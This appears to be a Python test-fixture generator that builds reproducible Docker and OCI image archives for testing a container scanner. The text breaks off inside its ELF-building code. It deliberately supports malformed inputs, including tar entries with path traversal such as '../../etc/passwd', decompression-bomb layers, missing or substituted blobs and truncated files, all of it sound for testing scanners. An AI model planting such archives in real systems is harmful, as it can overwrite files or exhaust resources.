#!/usr/bin/env python3
"""Deterministic container images for `pickaxe scan`: tests, emulations, benchmarks.

The same arguments give the same bytes: every tar member has mtime 0 and a
fixed owner, JSON documents are written with sorted keys and no spaces, gzip
headers carry no name and mtime 0, and nothing depends on the clock or the
order of a directory listing. Large contents are written streaming (a layer
goes through a temporary file), so a 200 MB file or a 1 GiB image never sits
in memory.

Module use:

    from image_builder import *
    base = Layer([directory("/etc"), file("/etc/os-release", b"ID=debian\\n")])
    app = Layer([file("/usr/bin/app", elf("x86-64"), mode=0o755),
                 whiteout("/etc/os-release")], compression="gzip")
    image = Image([base, app], Config(cmd=["app"]), reference="example/app:1.0")
    with Workspace() as ws:
        write_docker_save("app.tar", [image], ws)          # docker save, legacy layout
        write_oci("app.oci.tar", [image], ws)              # OCI layout, as a tarball
        write_oci("app.oci", [image], ws, tar=False)       # OCI layout, as a folder
        index = Index([image_amd64, image_arm64], reference="example/app:1.0")
        write_oci("multi.tar", [index], ws, compression="zstd")

Layer entries: file, stream, zeros (optionally a GNU sparse member),
from_host, directory, symlink, hardlink, whiteout, opaque, and raw names
(`file("../../etc/passwd", b"", raw=True)`). Malformed inputs: `missing=`
and `replace=` on the writers (a blob left out, or written with other
bytes under its digest), truncate(), and bomb_layer().

Command line:

    image_builder.py emulation OUT.tar [--check]
    image_builder.py debian OUT.tar [--format docker|oci]
    image_builder.py bench OUT.tar [--size BYTES] [--files N] [--format oci|docker]
"""
import argparse
import dataclasses
import gzip
import hashlib
import io
import json
import os
import platform as host_platform
import random
import shutil
import stat
import struct
import subprocess
import sys
import tempfile
import zlib

__all__ = [
    "Entry", "Layer", "History", "Config", "Image", "Index", "Blob", "Workspace", "BuiltImage",
    "file", "stream", "zeros", "from_host", "directory", "symlink", "hardlink", "whiteout",
    "opaque", "elf", "bomb_layer", "build_image", "write_docker_save", "write_oci", "truncate",
    "emulation_image", "debian_image", "bench_image", "sha256_hex", "zeros_sha256",
    "MEDIA_OCI_MANIFEST", "MEDIA_OCI_INDEX", "MEDIA_OCI_CONFIG", "MEDIA_LAYER",
]

BLOCK = 512
CHUNK = 1 << 20
EPOCH = "1970-01-01T00:00:00Z"
ZSTD = shutil.which("zstd") or "/usr/bin/zstd"

MEDIA_OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
MEDIA_OCI_INDEX = "application/vnd.oci.image.index.v1+json"
MEDIA_OCI_CONFIG = "application/vnd.oci.image.config.v1+json"
MEDIA_DOCKER_MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"
MEDIA_DOCKER_CONFIG = "application/vnd.docker.container.image.v1+json"
MEDIA_LAYER = {
    "oci": {"none": "application/vnd.oci.image.layer.v1.tar",
            "gzip": "application/vnd.oci.image.layer.v1.tar+gzip",
            "zstd": "application/vnd.oci.image.layer.v1.tar+zstd"},
    "docker": {"none": "application/vnd.docker.image.rootfs.diff.tar",
               "gzip": "application/vnd.docker.image.rootfs.diff.tar.gzip",
               "zstd": "application/vnd.oci.image.layer.v1.tar+zstd"},
}
MEDIA_IN_TOTO = "application/vnd.in-toto+json"


def canonical_json(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def sha256_hex(data):
    return hashlib.sha256(data).hexdigest()


def zeros_sha256(size):
    """The sha256 of `size` zero bytes, computed streaming."""
    digest = hashlib.sha256()
    block = bytes(CHUNK)
    while size:
        step = min(size, CHUNK)
        digest.update(block if step == CHUNK else block[:step])
        size -= step
    return digest.hexdigest()


def _zero_chunks(size):
    block = bytes(CHUNK)
    while size:
        step = min(size, CHUNK)
        yield block if step == CHUNK else block[:step]
        size -= step


# ---------------------------------------------------------------------------
# tar

def _encode(text):
    return text.encode("utf-8", "surrogateescape") if isinstance(text, str) else bytes(text)


def _octal(value, width):
    """`width` bytes: octal digits then NUL; None when the value does not fit."""
    digits = b"%0*o" % (width - 1, value)
    return digits + b"\0" if len(digits) == width - 1 and value >= 0 else None


def _field(data, width):
    data = _encode(data)[:width]
    return data + b"\0" * (width - len(data))


def _pax_record(key, value):
    body = b" " + _encode(key) + b"=" + _encode(value) + b"\n"
    length = len(body) + 1
    while len(str(length).encode()) + len(body) != length:
        length = len(str(length).encode()) + len(body)
    return str(length).encode() + body


def _split_ustar(name):
    """(prefix, name) for ustar, or None when it needs a PAX path."""
    if len(name) <= 100:
        return b"", name
    for cut in range(min(len(name) - 1, 155), 0, -1):
        if name[cut:cut + 1] == b"/" and len(name) - cut - 1 <= 100 and cut <= 155:
            return name[:cut], name[cut + 1:]
    return None


class TarWriter:
    """A tar stream: ustar headers, PAX ones only where ustar cannot say it,
    old-GNU sparse members on request. Ends with two zero blocks, no padding
    to a 10 KB record (as Docker writes)."""

    def __init__(self, out):
        self.out = out
        self.offset = 0

    def _write(self, data):
        self.out.write(data)
        self.offset += len(data)

    def _pad(self, size):
        if size % BLOCK:
            self._write(b"\0" * (BLOCK - size % BLOCK))

    @staticmethod
    def _header(name, mode, uid, gid, size, mtime, typeflag, linkname=b"", uname="", gname="",
                prefix=b"", magic=b"ustar\x0000", gnu_tail=b""):
        head = (_field(name, 100) + _octal(mode & 0o7777, 8) + _octal(uid, 8) + _octal(gid, 8)
                + _octal(size, 12) + _octal(mtime, 12) + b" " * 8 + typeflag
                + _field(linkname, 100) + magic + _field(uname, 32) + _field(gname, 32))
        head += _octal(0, 8) + _octal(0, 8)  # devmajor, devminor
        head += gnu_tail if gnu_tail else _field(prefix, 155)
        head += b"\0" * (BLOCK - len(head))
        checksum = sum(head)
        return head[:148] + b"%06o\0 " % checksum + head[156:]

    def add(self, name, typeflag, *, size=0, mode=0o644, uid=0, gid=0, uname="root", gname="root",
            linkname="", mtime=0, content=None):
        """One member. `content` is bytes or an iterable of bytes summing to `size`."""
        name, linkname = _encode(name), _encode(linkname)
        pax = []
        split = _split_ustar(name)
        if split is None:
            pax.append(("path", name))
            split = (b"", name[-100:])
        if len(linkname) > 100:
            pax.append(("linkpath", linkname))
        for key, value, width in (("uid", uid, 8), ("gid", gid, 8), ("size", size, 12),
                                  ("mtime", mtime, 12)):
            if _octal(value, width) is None:
                pax.append((key, str(value)))
        for key, value in (("uname", uname), ("gname", gname)):
            if len(_encode(value)) > 32:
                pax.append((key, _encode(value)))
        if pax:
            records = b"".join(_pax_record(k, v) for k, v in pax)
            base = os.path.basename(name.rstrip(b"/"))[:80] or b"root"
            self._write(self._header(b"PaxHeaders.0/" + base, 0o644, 0, 0, len(records), 0, b"x"))
            self._write(records)
            self._pad(len(records))
        fit = lambda v, w: v if _octal(v, w) is not None else 0
        self._write(self._header(split[1], mode, fit(uid, 8), fit(gid, 8), fit(size, 12),
                                 fit(mtime, 12), typeflag, linkname[:100], uname[:32], gname[:32],
                                 prefix=split[0]))
        written = 0
        if content is not None:
            for chunk in ([content] if isinstance(content, (bytes, bytearray, memoryview))
                          else content):
                self._write(chunk)
                written += len(chunk)
        if written != size:
            raise ValueError(f"{name!r}: {written} bytes written for a size of {size}")
        self._pad(size)

    def add_sparse(self, name, realsize, regions, *, mode=0o644, uid=0, gid=0, uname="root",
                   gname="root", mtime=0):
        """An old-GNU sparse member ('S'): `regions` is [(offset, bytes)] of
        data, the rest holes; the map ends with (realsize, 0) as GNU tar writes."""
        name = _encode(name)
        if len(name) > 100:
            raise ValueError("sparse members take names of up to 100 bytes")
        sparse_map = [(offset, len(data)) for offset, data in regions]
        if not sparse_map or sum(sparse_map[-1]) != realsize:
            sparse_map.append((realsize, 0))
        stored = sum(len(data) for _, data in regions)
        entry = lambda pair: _octal(pair[0], 12) + _octal(pair[1], 12)
        first, rest = sparse_map[:4], sparse_map[4:]
        tail = (b"\0" * 12 * 2 + b"\0" * 12 + b"\0" * 4 + b"\0"  # atime ctime offset longnames unused
                + b"".join(entry(p) for p in first) + b"\0" * 24 * (4 - len(first))
                + (b"\x01" if rest else b"\0") + _octal(realsize, 12))
        self._write(self._header(name, mode, uid, gid, stored, mtime, b"S", b"", uname, gname,
                                 magic=b"ustar  \0", gnu_tail=tail))
        while rest:
            part, rest = rest[:21], rest[21:]
            block = b"".join(entry(p) for p in part) + b"\0" * 24 * (21 - len(part))
            block += (b"\x01" if rest else b"\0")
            self._write(block + b"\0" * (BLOCK - len(block)))
        for _, data in regions:
            self._write(data)
        self._pad(stored)

    def close(self):
        self._write(b"\0" * (2 * BLOCK))


# ---------------------------------------------------------------------------
# layer entries

@dataclasses.dataclass
class Entry:
    """One layer member. kind: file, dir, symlink, hardlink or sparse."""
    path: str
    kind: str = "file"
    data: bytes = b""
    size: int = None          # streamed content: its size ...
    chunks: object = None     # ... and a function returning an iterable of bytes
    target: str = ""          # symlink text, or the path a hard link names
    mode: int = 0o644
    uid: int = 0
    gid: int = 0
    uname: str = "root"
    gname: str = "root"
    mtime: int = 0
    raw: bool = False         # the name is written exactly as given
    regions: list = None      # sparse: [(offset, bytes)]

    def tar_name(self):
        if self.raw:
            return self.path
        name = self.path.lstrip("/")
        if self.kind == "dir" and not name.endswith("/"):
            name += "/"
        return name

    def content_size(self):
        return self.size if self.size is not None else len(self.data)


def _owner(kw):
    return {k: kw[k] for k in ("uid", "gid", "uname", "gname", "mtime", "raw") if k in kw}


def file(path, data=b"", mode=0o644, **owner):
    """A regular file holding `data`."""
    return Entry(path, "file", data=_encode(data), mode=mode, **_owner(owner))


def stream(path, size, chunks, mode=0o644, **owner):
    """A regular file of `size` bytes from `chunks()`, an iterable of bytes."""
    return Entry(path, "file", size=size, chunks=chunks, mode=mode, **_owner(owner))


def zeros(path, size, mode=0o644, sparse=False, **owner):
    """`size` zero bytes, streamed; with sparse=True an old-GNU sparse member
    that stores no data at all."""
    if sparse:
        return Entry(path, "sparse", size=size, regions=[], mode=mode, **_owner(owner))
    return Entry(path, "file", size=size, chunks=lambda: _zero_chunks(size), mode=mode,
                 **_owner(owner))


def from_host(path, host_path, mode=None, **owner):
    """A regular file read from this machine as the layer is written."""
    info = os.stat(host_path)
    size = info.st_size

    def chunks():
        left = size
        with open(host_path, "rb") as source:
            while left:
                data = source.read(min(left, CHUNK))
                if not data:  # the file shrank: keep the member's size
                    yield bytes(left)
                    return
                yield data
                left -= len(data)
    return Entry(path, "file", size=size, chunks=chunks,
                 mode=stat.S_IMODE(info.st_mode) if mode is None else mode, **_owner(owner))


def directory(path, mode=0o755, **owner):
    return Entry(path, "dir", mode=mode, **_owner(owner))


def symlink(path, target, **owner):
    return Entry(path, "symlink", target=target, mode=0o777, **_owner(owner))


def hardlink(path, target, **owner):
    """A hard link to `target`, a path written earlier in the same layer."""
    return Entry(path, "hardlink", target=target, mode=0o644, **_owner(owner))


def whiteout(path):
    """Hides `path` (a file or a whole directory) of the layers below."""
    parent, name = os.path.split(path.rstrip("/"))
    return Entry(os.path.join(parent, ".wh." + name), "file", mode=0o644)


def opaque(path):
    """Hides everything the layers below hold under directory `path`."""
    return Entry(os.path.join(path.rstrip("/"), ".wh..wh..opq"), "file", mode=0o644)


def write_entries(tar, entries):
    for entry in entries:
        common = dict(mode=entry.mode, uid=entry.uid, gid=entry.gid, uname=entry.uname,
                      gname=entry.gname, mtime=entry.mtime)
        name = entry.tar_name()
        if entry.kind == "file":
            content = entry.chunks() if entry.chunks is not None else entry.data
            tar.add(name, b"0", size=entry.content_size(), content=content, **common)
        elif entry.kind == "dir":
            tar.add(name, b"5", **common)
        elif entry.kind == "symlink":
            tar.add(name, b"2", linkname=entry.target, **common)
        elif entry.kind == "hardlink":
            target = entry.target if entry.raw else entry.target.lstrip("/")
            tar.add(name, b"1", linkname=target, **common)
        elif entry.kind == "sparse":
            tar.add_sparse(name, entry.size, entry.regions, **common)
        else:
            raise ValueError(f"unknown entry kind {entry.kind!r}")


# ---------------------------------------------------------------------------
# layers, configs, images

@dataclasses.dataclass(eq=False)
class Layer:
    entries: list
    compression: str = "none"   # none, gzip or zstd
    level: int = None           # gzip 1-9 (default 6), zstd 1-19 (default 3)


@dataclasses.dataclass
class History:
    created_by: str
    created: str = EPOCH
    empty_layer: bool = False
    comment: str = None
    author: str = None

    def json(self):
        doc = {"created": self.created, "created_by": self.created_by}
        if self.empty_layer:
            doc["empty_layer"] = True
        if self.comment is not None:
            doc["comment"] = self.comment
        if self.author is not None:
            doc["author"] = self.author
        return doc


@dataclasses.dataclass
class Config:
    entrypoint: list = None
    cmd: list = None
    env: list = None
    labels: dict = None
    user: str = None
    working_dir: str = None
    exposed_ports: list = None
    os: str = "linux"
    architecture: str = "amd64"
    variant: str = None
    created: str = EPOCH
    author: str = None
    history: list = None        # of History; None: one entry per layer

    def platform(self):
        return "/".join(p for p in (self.os, self.architecture, self.variant) if p)

    def json(self, diff_ids):
        runtime = {}
        for key, value in (("Entrypoint", self.entrypoint), ("Cmd", self.cmd), ("Env", self.env),
                           ("Labels", self.labels), ("User", self.user),
                           ("WorkingDir", self.working_dir)):
            if value is not None:
                runtime[key] = value
        if self.exposed_ports is not None:
            runtime["ExposedPorts"] = {port: {} for port in self.exposed_ports}
        history = self.history
        if history is None:
            history = [History(f"/bin/sh -c #(nop) ADD layer {i} in / ", self.created)
                       for i in range(len(diff_ids))]
        doc = {"architecture": self.architecture, "os": self.os, "created": self.created,
               "config": runtime, "rootfs": {"type": "layers", "diff_ids": diff_ids},
               "history": [h.json() for h in history]}
        if self.variant:
            doc["variant"] = self.variant
        if self.author:
            doc["author"] = self.author
        return canonical_json(doc)


@dataclasses.dataclass(eq=False)
class Image:
    layers: list
    config: Config = dataclasses.field(default_factory=Config)
    reference: str = None       # docker.io/library/nginx:1.25, nginx:1.25, or None
    annotations: dict = None    # extra annotations on the manifest's descriptor


@dataclasses.dataclass(eq=False)
class Index:
    """A multi-platform image: one manifest per image (its config gives the
    platform), optionally with a BuildKit attestation manifest for each."""
    images: list
    reference: str = None
    attestations: bool = False


def split_reference(reference):
    """('docker.io/cryptominer/monero-xmr', 'latest') from the full name."""
    if reference is None:
        return None, None
    slash = reference.rfind("/")
    colon = reference.rfind(":")
    if colon > slash:
        return reference[:colon], reference[colon + 1:]
    return reference, None


def name_annotations(reference):
    """Docker 25+'s annotations: the full name and the tag as the ref name."""
    if reference is None:
        return {}
    _, tag = split_reference(reference)
    return {"io.containerd.image.name": reference,
            "org.opencontainers.image.ref.name": tag or "latest"}


# ---------------------------------------------------------------------------
# blobs

class Blob:
    """Bytes in memory or in a workspace file, with their digest and media type."""

    def __init__(self, media_type, data=None, path=None, hex=None, size=None):
        self.media_type, self.data, self.path = media_type, data, path
        if data is not None:
            self.size, self.hex = len(data), sha256_hex(data)
        elif hex is not None:
            self.size, self.hex = size, hex
        else:
            digest, self.size = hashlib.sha256(), 0
            with open(path, "rb") as source:
                while chunk := source.read(CHUNK):
                    digest.update(chunk)
                    self.size += len(chunk)
            self.hex = digest.hexdigest()

    @property
    def digest(self):
        return "sha256:" + self.hex

    def chunks(self):
        if self.data is not None:
            yield self.data
            return
        with open(self.path, "rb") as source:
            while chunk := source.read(CHUNK):
                yield chunk

    def bytes(self):
        return self.data if self.data is not None else b"".join(self.chunks())

    def descriptor(self, **extra):
        doc = {"mediaType": self.media_type, "digest": self.digest, "size": self.size}
        doc.update({k: v for k, v in extra.items() if v})
        return doc


class Workspace:
    """A temporary folder for layer files; built layers are kept per Layer."""

    def __init__(self, dir=None):
        self.root = tempfile.mkdtemp(prefix="image-builder-", dir=dir)
        self.count = 0
        self.layers = {}

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def close(self):
        shutil.rmtree(self.root, ignore_errors=True)

    def path(self, suffix):
        self.count += 1
        return os.path.join(self.root, f"{self.count:06d}{suffix}")


class _Counting:
    """Write-through sha256 and size."""

    def __init__(self, sink):
        self.sink, self.digest, self.size = sink, hashlib.sha256(), 0

    def write(self, data):
        self.digest.update(data)
        self.size += len(data)
        self.sink.write(data)
        return len(data)

    def flush(self):
        pass


class _Compressor:
    """A writable stream that compresses into `out` (a real file): gzip with
    zlib in-process, zstd through the zstd command."""

    def __init__(self, out, compression, level=None):
        self.process = self.gzip = None
        if compression == "gzip":
            self.gzip = gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0,
                                      compresslevel=level or 6)
            self.write = self.gzip.write
        elif compression == "zstd":
            self.process = subprocess.Popen([ZSTD, "-q", "-c", f"-{level or 3}"],
                                            stdin=subprocess.PIPE, stdout=out)
            self.write = self.process.stdin.write
        elif compression in (None, "none"):
            self.write = out.write
        else:
            raise ValueError(f"unknown compression {compression!r}")

    def close(self):
        if self.gzip:
            self.gzip.close()
        if self.process:
            self.process.stdin.close()
            if self.process.wait() != 0:
                raise RuntimeError("zstd failed")


class BuiltLayer:
    """A layer as written: `blob` as the image holds it (compressed or not),
    `diff_id` the sha256 of its tar, `tar` the uncompressed tar (written from
    the blob when first asked for)."""

    def __init__(self, blob, diff_id, compression, ws, tar=None):
        self.blob, self.diff_id, self.compression, self._ws, self._tar = (
            blob, diff_id, compression, ws, tar)

    @property
    def tar(self):
        if self._tar is None:
            path = self._ws.path(".tar")
            with open(path, "wb") as out:
                if self.compression == "gzip":
                    with gzip.open(self.blob.path, "rb") as source:
                        shutil.copyfileobj(source, out, CHUNK)
                else:
                    subprocess.run([ZSTD, "-q", "-d", "-c", self.blob.path], stdout=out,
                                   check=True)
            self._tar = Blob(MEDIA_LAYER["oci"]["none"], path=path)
        return self._tar


def build_layer(layer, ws):
    """Writes the layer's tar, compressed as the layer says, into the
    workspace, hashing it on the way (one pass)."""
    if id(layer) in ws.layers:
        return ws.layers[id(layer)][1]
    compression = layer.compression or "none"
    path = ws.path(".tar" if compression == "none" else "." + compression)
    with open(path, "wb") as out:
        packed = _Counting(out)
        compressor = _Compressor(packed if compression == "gzip" else out, compression,
                                 layer.level)
        plain = _Counting(compressor)
        tar = TarWriter(plain)
        write_entries(tar, layer.entries)
        tar.close()
        compressor.close()
    diff_id = "sha256:" + plain.digest.hexdigest()
    if compression == "none":
        blob = Blob(MEDIA_LAYER["oci"]["none"], path=path, hex=plain.digest.hexdigest(),
                    size=plain.size)
        built = BuiltLayer(blob, diff_id, compression, ws, tar=blob)
    else:
        known = dict(hex=packed.digest.hexdigest(), size=packed.size) \
            if compression == "gzip" else {}
        blob = Blob(MEDIA_LAYER["oci"][compression], path=path, **known)
        built = BuiltLayer(blob, diff_id, compression, ws)
    ws.layers[id(layer)] = (layer, built)  # the layer is kept so that its id stays its own
    return built


@dataclasses.dataclass
class BuiltImage:
    image: Image
    layers: list        # of BuiltLayer
    config: Blob
    manifest: Blob      # the OCI (or Docker v2) manifest

    @property
    def reference(self):
        return self.image.reference


def build_image(image, ws, manifest_format="oci"):
    layers = [build_layer(layer, ws) for layer in image.layers]
    config_media = MEDIA_OCI_CONFIG if manifest_format == "oci" else MEDIA_DOCKER_CONFIG
    config = Blob(config_media, data=image.config.json([l.diff_id for l in layers]))
    layer_media = MEDIA_LAYER[manifest_format]
    manifest = {
        "schemaVersion": 2,
        "mediaType": MEDIA_OCI_MANIFEST if manifest_format == "oci" else MEDIA_DOCKER_MANIFEST,
        "config": config.descriptor(),
        "layers": [dict(built.blob.descriptor(),
                        mediaType=layer_media[layer.compression or "none"])
                   for layer, built in zip(image.layers, layers)],
    }
    blob = Blob(manifest["mediaType"], data=canonical_json(manifest))
    return BuiltImage(image, layers, config, blob)


def _attestation(built):
    """A BuildKit-style attestation manifest (platform unknown/unknown) for `built`."""
    statement = canonical_json({
        "_type": "https://in-toto.io/Statement/v0.1",
        "predicateType": "https://spdx.dev/Document",
        "subject": [{"name": built.reference or "image",
                     "digest": {"sha256": built.manifest.hex}}],
        "predicate": {"spdxVersion": "SPDX-2.3", "name": "sbom", "packages": []}})
    layer = Blob(MEDIA_IN_TOTO, data=statement)
    config = Blob(MEDIA_OCI_CONFIG, data=canonical_json({
        "architecture": "unknown", "os": "unknown", "config": {},
        "rootfs": {"type": "layers", "diff_ids": [layer.digest]}}))
    manifest = Blob(MEDIA_OCI_MANIFEST, data=canonical_json({
        "schemaVersion": 2, "mediaType": MEDIA_OCI_MANIFEST, "config": config.descriptor(),
        "layers": [layer.descriptor(annotations={
            "in-toto.io/predicate-type": "https://spdx.dev/Document"})]}))
    return manifest, [layer, config, manifest]


def bomb_layer(size, compression="gzip", level=9, path="/bomb"):
    """A layer whose tar holds one file of `size` zero bytes: compressed, a
    few hundred KB (gzip) or less (zstd) that expand to `size`."""
    return Layer([zeros(path, size)], compression=compression, level=level)


# ---------------------------------------------------------------------------
# writers

class _DirSink:
    def __init__(self, root):
        self.root = root
        os.makedirs(root, exist_ok=True)

    def mkdir(self, name):
        os.makedirs(os.path.join(self.root, name), exist_ok=True)

    def add(self, name, content):
        path = os.path.join(self.root, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as out:
            for chunk in _chunks_of(content):
                out.write(chunk)

    def close(self):
        pass


def _chunks_of(content):
    if isinstance(content, Blob):
        return content.chunks()
    return [_encode(content)]


class _TarSink:
    def __init__(self, path, compression=None, level=None):
        self.file = open(path, "wb")
        self.compressor = _Compressor(self.file, compression, level)
        self.tar = TarWriter(self.compressor)

    def mkdir(self, name):
        self.tar.add(name.rstrip("/") + "/", b"5", mode=0o755)

    def add(self, name, content):
        size = content.size if isinstance(content, Blob) else len(_encode(content))
        self.tar.add(name, b"0", size=size, content=_chunks_of(content), mode=0o644)

    def close(self):
        self.tar.close()
        self.compressor.close()
        self.file.close()


def _sink(out, tar, compression, level):
    if tar:
        return _TarSink(out, compression, level)
    if compression:
        raise ValueError("a folder is not compressed")
    if os.path.exists(out):
        shutil.rmtree(out)
    return _DirSink(out)


def _blob_content(blob, replace):
    """What is written under the blob's name: its bytes, or the stand-in."""
    stand_in = replace.get(blob.digest)
    if stand_in is None:
        return blob
    return stand_in if isinstance(stand_in, Blob) else Blob("", data=_encode(stand_in))


def _legacy_ids(built):
    """Docker's v1 layer ids: a chain over the diff ids."""
    ids, parent = [], ""
    for layer in built.layers:
        parent = sha256_hex(f"{parent} {layer.diff_id}".encode())
        ids.append(parent)
    return ids


def write_docker_save(out, images, ws, *, compression=None, level=None, order="sorted",
                      missing=(), replace=None):
    """`docker save` (Docker 24 and before): manifest.json, <config>.json,
    <id>/layer.tar (uncompressed), repositories.

    order: "sorted" (member names in order, as Docker writes them),
    "metadata-first" (manifest.json and configs before the layers) or
    "layers-reversed" (the last layer first, metadata last).
    missing: diff ids whose layer.tar is left out; replace: {diff id: Blob or
    bytes} written as that layer.tar instead (its sha256 no longer the diff id).
    """
    images = [images] if isinstance(images, Image) else list(images)
    replace = replace or {}
    manifest, repositories, members = [], {}, {}
    metadata_names, layer_names = [], []
    for image in images:
        built = build_image(image, ws)
        ids = _legacy_ids(built)
        config_name = built.config.hex + ".json"
        members[config_name] = built.config
        metadata_names.append(config_name)
        for index, (layer, layer_id) in enumerate(zip(built.layers, ids)):
            members[layer_id + "/"] = None
            members[layer_id + "/VERSION"] = b"1.0"
            v1 = {"id": layer_id, "created": EPOCH, "container_config": {"Cmd": None}}
            if index:
                v1["parent"] = ids[index - 1]
            members[layer_id + "/json"] = canonical_json(v1)
            if layer.diff_id not in missing:
                members[layer_id + "/layer.tar"] = _blob_content(layer.tar, replace)
            for name in ("/", "/VERSION", "/json", "/layer.tar"):
                if layer_id + name not in layer_names:
                    layer_names.append(layer_id + name)
        entry = {"Config": config_name, "RepoTags": [image.reference] if image.reference else None,
                 "Layers": [layer_id + "/layer.tar" for layer_id in ids]}
        manifest.append(entry)
        repo, tag = split_reference(image.reference)
        if repo:
            repositories.setdefault(repo, {})[tag or "latest"] = ids[-1] if ids else ""
    members["manifest.json"] = canonical_json(manifest)
    metadata_names.insert(0, "manifest.json")
    if repositories:
        members["repositories"] = canonical_json(repositories)
        metadata_names.append("repositories")
    if order == "sorted":
        names = sorted(members)
    elif order == "metadata-first":
        names = metadata_names + layer_names
    elif order == "layers-reversed":
        groups = [layer_names[i:i + 4] for i in range(0, len(layer_names), 4)]
        names = [n for group in reversed(groups) for n in group] + metadata_names
    else:
        raise ValueError(f"unknown order {order!r}")
    sink = _sink(out, True, compression, level)
    for name in names:
        if name not in members:
            continue
        content = members[name]
        if content is None:
            sink.mkdir(name)
        else:
            sink.add(name, content)
    sink.close()


def write_oci(out, items, ws, *, tar=True, compression=None, level=None, order="blobs-first",
              docker_manifest=False, manifest_format="oci", missing=(), replace=None,
              index_annotations=True):
    """An OCI image layout (oci-layout, index.json, blobs/sha256/), as a
    folder or a tarball (plain, gzip or zstd).

    items: Images and Indexes, each one entry of index.json (with Docker 25's
    io.containerd.image.name and org.opencontainers.image.ref.name
    annotations when it has a reference and index_annotations is true).
    docker_manifest: also write Docker 25's manifest.json (and repositories).
    order: "blobs-first" (layers, configs, manifests, then index.json and
    oci-layout, as Docker writes), "metadata-first" (oci-layout, index.json,
    manifests and configs, then layers) or "layers-reversed" (layers last to
    first, then the rest). missing: digests of blobs left out; replace:
    {digest: Blob or bytes} written under that digest instead.
    """
    items = [items] if isinstance(items, (Image, Index)) else list(items)
    replace = replace or {}
    layer_blobs, meta_blobs, index_entries, docker_entries, repositories = [], [], [], [], {}

    def add(collection, blob):
        if all(blob.hex != b.hex for b in layer_blobs + meta_blobs):
            collection.append(blob)

    def add_image(image):
        built = build_image(image, ws, manifest_format)
        for layer in built.layers:
            add(layer_blobs, layer.blob)
        add(meta_blobs, built.config)
        add(meta_blobs, built.manifest)
        return built

    for item in items:
        annotations = name_annotations(item.reference) if index_annotations else {}
        if isinstance(item, Image):
            built = add_image(item)
            annotations = dict(annotations, **(item.annotations or {}))
            index_entries.append(built.manifest.descriptor(annotations=annotations))
            builts = [built]
        else:
            builts, manifests = [], []
            for image in item.images:
                built = add_image(image)
                builts.append(built)
                cfg = image.config
                plat = {"os": cfg.os, "architecture": cfg.architecture}
                if cfg.variant:
                    plat["variant"] = cfg.variant
                manifests.append(built.manifest.descriptor(platform=plat,
                                                           annotations=image.annotations))
            if item.attestations:
                for built in builts:
                    manifest, blobs = _attestation(built)
                    for blob in blobs:
                        add(layer_blobs if blob.media_type == MEDIA_IN_TOTO else meta_blobs, blob)
                    manifests.append(manifest.descriptor(
                        platform={"os": "unknown", "architecture": "unknown"},
                        annotations={"vnd.docker.reference.digest": built.manifest.digest,
                                     "vnd.docker.reference.type": "attestation-manifest"}))
            index_blob = Blob(MEDIA_OCI_INDEX, data=canonical_json(
                {"schemaVersion": 2, "mediaType": MEDIA_OCI_INDEX, "manifests": manifests}))
            add(meta_blobs, index_blob)
            index_entries.append(index_blob.descriptor(annotations=annotations))
        if docker_manifest:
            for built in builts[:1] if isinstance(item, Index) else builts:
                docker_entries.append({
                    "Config": "blobs/sha256/" + built.config.hex,
                    "RepoTags": [item.reference] if item.reference else None,
                    "Layers": ["blobs/sha256/" + l.blob.hex for l in built.layers]})
                repo, tag = split_reference(item.reference)
                if repo:
                    repositories.setdefault(repo, {})[tag or "latest"] = built.manifest.hex
    index_json = canonical_json({"schemaVersion": 2, "mediaType": MEDIA_OCI_INDEX,
                                 "manifests": index_entries})
    layout = canonical_json({"imageLayoutVersion": "1.0.0"})
    top = [("index.json", index_json)]
    if docker_manifest:
        top.append(("manifest.json", canonical_json(docker_entries)))
    top.append(("oci-layout", layout))
    if docker_manifest and repositories:
        top.append(("repositories", canonical_json(repositories)))

    def blob_members(blobs):
        return [("blobs/sha256/" + blob.hex, _blob_content(blob, replace))
                for blob in blobs if blob.digest not in missing]

    if order == "blobs-first":
        members = blob_members(layer_blobs + meta_blobs) + top
    elif order == "metadata-first":
        layout_first = [m for m in top if m[0] == "oci-layout"] + [m for m in top
                                                                   if m[0] != "oci-layout"]
        members = layout_first + blob_members(list(reversed(meta_blobs)) + layer_blobs)
    elif order == "layers-reversed":
        members = blob_members(list(reversed(layer_blobs)) + meta_blobs) + top
    else:
        raise ValueError(f"unknown order {order!r}")
    sink = _sink(out, tar, compression, level)
    sink.mkdir("blobs")
    sink.mkdir("blobs/sha256")
    for name, content in members:
        sink.add(name, content)
    sink.close()


def truncate(path, at):
    """Cuts the file at byte `at` (negative: that many bytes before the end)."""
    size = os.path.getsize(path)
    os.truncate(path, at if at >= 0 else size + at)


# ---------------------------------------------------------------------------
# ELF

ELF_MACHINES = {"x86-64": (62, 64, "little"), "aarch64": (183, 64, "little"),
                "i386": (3, 32, "little"), "arm": (40, 32, "little"),
                "riscv64": (243, 64, "little"), "s390x": (22, 64, "big"),
                "ppc64": (21, 64, "big"), "mips": (8, 32, "big")}
ELF_TYPES = {"REL": 1, "EXEC": 2, "DYN": 3, "CORE": 4}


def elf(machine="x86-64", etype="EXEC", strings=(), symtab=False, pad=0):
    """A small, well-formed ELF file: header, one PT_LOAD program header and
    section headers (.rodata holding `strings`, .shstrtab, and .symtab/.strtab
    when `symtab`: not stripped). It does not run."""
    number, bits, order = ELF_MACHINES[machine]
    end = "<" if order == "little" else ">"
    addr = "Q" if bits == 64 else "I"
    ehsize, phsize, shsize = (64, 56, 64) if bits == 64 else (52, 32, 40)
    rodata = b"\0".join(_encode(s) for s in strings) + b"\0" + bytes(pad)
    names = [b"", b".rodata", b".shstrtab"] + ([b".symtab", b".strtab"] if symtab else [])
    shstrtab, offsets = b"", []
    for name in names:
        offsets.append(len(shstrtab))
        shstrtab += name + b"\0"
    strtab = b"\0main\0" if symtab else b""
    sym_size = 24 if bits == 64 else 16
    if symtab:
        if bits == 64:
            symbols = bytes(24) + struct.pack(end + "IBBHQQ", 1, 0x12, 0, 1, 0x401000, 0)
        else:
            symbols = bytes(16) + struct.pack(end + "IIIBBH", 1, 0x401000, 0, 0x12, 0, 1)
    else:
        symbols = b""
    body_start = ehsize + phsize
    layout, cursor = [], body_start
    for blob in (rodata, shstrtab, symbols, strtab):
        layout.append(cursor)
